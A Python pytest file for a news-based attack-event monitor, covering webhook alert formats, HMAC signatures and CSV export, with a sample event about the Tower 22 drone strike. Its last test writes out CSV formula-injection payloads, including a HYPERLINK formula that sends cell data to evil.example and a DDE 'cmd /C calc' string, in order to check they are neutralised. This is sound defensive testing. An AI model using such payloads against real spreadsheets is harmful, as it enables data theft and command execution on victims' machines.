"""Alert bodies, formats and signatures (monitor/pipeline/alerts.py, monitor/http.py)."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import re
from datetime import UTC, date, datetime

import pytest

from monitor.http import sign
from monitor.pipeline.alerts import (
    CSV_COLUMNS,
    alert_body,
    event_object,
    events_csv,
    render_alert,
)
from monitor.records import Attribution, Event, Outcome, Source
from tests.conftest import ROOT

SAMPLE = Event(
    id=7,
    key="tower-22/2024-01-28",
    base_id="tower-22",
    base_name="Tower 22",
    base_mention="Tower 22",
    country="JO",
    location=(33.3167, 38.6906),
    day=date(2024, 1, 28),
    day_expression="on sunday",
    weapons=("drone",),
    munitions_count=1,
    attack_count=1,
    claimed_by="Islamic Resistance in Iraq",
    attribution=Attribution.CONFIRMED,
    outcome=Outcome.CASUALTIES,
    injured=34,
    killed=3,
    first_reported_at=datetime(2024, 1, 28, 15, 2, 11, tzinfo=UTC),
    updated_at=datetime(2024, 1, 29, 9, 40, tzinfo=UTC),
    sources=(
        Source(
            url="https://news.example/2024/01/28/tower-22",
            title="Three US troops killed in drone attack in Jordan",
            published_at=datetime(2024, 1, 28, 15, 0, tzinfo=UTC),
            evidence="Three US soldiers were killed and 34 injured on Sunday when a one-way attack "
            "drone struck Tower 22, a US outpost in Jordan, the Pentagon said.",
        ),
    ),
)


def _variant(**fields: object) -> Event:
    return Event(**{**{f: getattr(SAMPLE, f) for f in SAMPLE.__slots__}, **fields})  # type: ignore[arg-type]


def test_readme_documents_the_alert_body() -> None:
    """The README's sample alert is exactly what the code renders for the same event."""
    readme = (ROOT / "README.md").read_text()
    match = re.search(r"<!-- alert-sample -->\n```json\n(.*?)\n```", readme, re.DOTALL)
    assert match is not None
    assert json.loads(match.group(1)) == alert_body("event.created", SAMPLE)


@pytest.mark.parametrize("fmt", ["json", "slack", "discord", "teams"])
def test_every_format_renders_the_event(fmt: str) -> None:
    """Each webhook format is valid JSON that names the base, the day and the source."""
    body = render_alert(alert_body("event.updated", SAMPLE), fmt)
    text = body.decode()
    json.loads(text)
    assert "Tower 22" in text
    assert "2024-01-28" in text
    assert "news.example" in text


def test_long_evidence_is_cut_to_the_service_limit() -> None:
    """A huge evidence text stays within Slack's section limit."""
    long_source = Source(
        url="https://x.example/", title="t", published_at=None, evidence="word " * 5000
    )
    event = _variant(sources=(long_source,) * 5)
    slack = json.loads(render_alert(alert_body("event.created", event), "slack"))
    assert len(slack["blocks"][1]["text"]["text"]) <= 3000


@pytest.mark.parametrize(
    ("secret", "key"),
    [
        ("plain-secret", b"plain-secret"),
        ("whsec_" + base64.b64encode(b"raw key bytes").decode(), b"raw key bytes"),
    ],
    ids=["text-secret", "whsec-base64"],
)
def test_signature_follows_standard_webhooks(secret: str, key: bytes) -> None:
    """The signature is v1, + base64 HMAC-SHA256 of id.timestamp.body."""
    body = b'{"type":"event.created"}'
    expected = base64.b64encode(
        hmac.new(key, b"msg_1.1700000000." + body, hashlib.sha256).digest()
    ).decode()
    assert sign(secret, "msg_1", 1700000000, body) == "v1," + expected


def test_csv_carries_every_field_of_the_event_object() -> None:
    """The CSV has a column for each field of the JSON event object (location as latitude and
    longitude, sources as URLs and as JSON), and a CSV reader gets the values back."""
    flat = set(event_object(SAMPLE)) - {"location", "sources"}
    assert set(CSV_COLUMNS) == flat | {"latitude", "longitude", "source_urls", "sources"}
    (row,) = csv.DictReader(io.StringIO(events_csv([SAMPLE])))
    assert list(row) == list(CSV_COLUMNS)
    expected = event_object(SAMPLE)
    for key in flat - {"weapons", "tracked", "id", "munitions_count", "attack_count"}:
        assert row[key] == str(expected[key] if expected[key] is not None else ""), key
    assert (float(row["latitude"]), float(row["longitude"])) == SAMPLE.location
    assert json.loads(row["sources"]) == expected["sources"]
    assert row["source_urls"] == SAMPLE.sources[0].url


def test_csv_row_of_an_untracked_event_says_where_the_attack_was() -> None:
    """An untracked event has no base or location; its row names the target as the article
    did (base_mention)."""
    untracked = _variant(
        base_id=None, base_name=None, base_mention="a US base in northeastern Syria", location=None
    )
    (row,) = csv.DictReader(io.StringIO(events_csv([untracked])))
    assert (row["base"], row["latitude"], row["tracked"]) == ("", "", "False")
    assert row["base_mention"] == "a US base in northeastern Syria"


def test_csv_neutralises_formulas_from_articles() -> None:
    """Text cells a spreadsheet would run as formulas get a leading ' (OWASP); numbers, and
    text with commas, quotes and line breaks, come back as written."""
    hostile = _variant(
        base_mention='=HYPERLINK("https://evil.example/?"&A1,"click")',
        claimed_by="+cmd|' /C calc'!A0",
        day_expression="-2+3",
        location=(-33.5, -70.25),
        sources=(
            Source(
                url="https://news.example/a",
                title="@SUM(1,2)",
                published_at=None,
                evidence='He said, "drones hit",\nthen left.',
            ),
        ),
    )
    (row,) = csv.DictReader(io.StringIO(events_csv([hostile])))
    assert row["base_mention"] == """'=HYPERLINK("https://evil.example/?"&A1,"click")"""
    assert row["claimed_by"] == "'+cmd|' /C calc'!A0"
    assert row["date_expression"] == "'-2+3"
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
    (source,) = json.loads(row["sources"])
    assert (source["title"], source["evidence"]) == (
        "@SUM(1,2)",
        'He said, "drones hit",\nthen left.',
    )
    assert not row["sources"].startswith(("=", "+", "-", "@"))
